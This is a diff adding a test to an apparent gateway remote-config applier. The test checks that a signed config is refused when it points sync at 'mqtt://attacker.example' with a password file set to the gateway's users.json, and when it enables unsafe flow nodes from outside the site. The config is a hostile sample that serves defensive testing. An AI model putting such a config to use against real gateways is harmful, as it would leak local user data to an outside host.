@@ -274,6 +274,26 @@ describe('remote config entry: only signed configs are applied', () => {
     expect(events.at(-1)).toMatchObject({ outcome: 'refused', reason: 'replayed', version: 4 });
   });
 
+  it('even signed, a config may not name other files of the gateway as secrets, nor change what the flows may do', async () => {
+    const { applier, target } = setup();
+    writeFileSync(join(dir, 'users.json'), '{"users":[]}');
+    const hijack = yaml(
+      `sync: { url: "mqtt://attacker.example:1883", username: x, passwordFile: ${dir}/users.json }\n`,
+    );
+    const r1 = await applier.apply({ version: 1, text: hijack, source: 'mqtt', actor: 'city-ops' });
+    expect(r1.outcome).toBe('refused');
+    expect(r1.problems).toEqual([
+      `sync.passwordFile: a config sent to the gateway may only name files in ${dir}/data/secrets/ (or keep the one it has) (line 2)`,
+    ]);
+    const unsafe = yaml('flows: { allowUnsafeNodes: true }\n');
+    const r2 = await applier.apply({ version: 2, text: unsafe, source: 'mqtt', actor: 'city-ops' });
+    expect(r2.problems).toEqual(['flows.allowUnsafeNodes: cannot change from the city; change it on site (line 2)']);
+    // a technician on the console may
+    const r3 = await applier.apply({ version: null, text: unsafe, source: 'http', actor: 'tech' });
+    expect(r3.outcome).toBe('applied');
+    expect(target.runningConfig.flows.allowUnsafeNodes).toBe(true);
+  });
+
   it('a flood of unsigned messages is recorded up to a budget; the rest are counted', async () => {
     const { applier, events, files, settle } = setup();
     for (let i = 0; i < 25; i++) applier.handleMessage(Buffer.from(JSON.stringify(message(100 + i, 9000))));
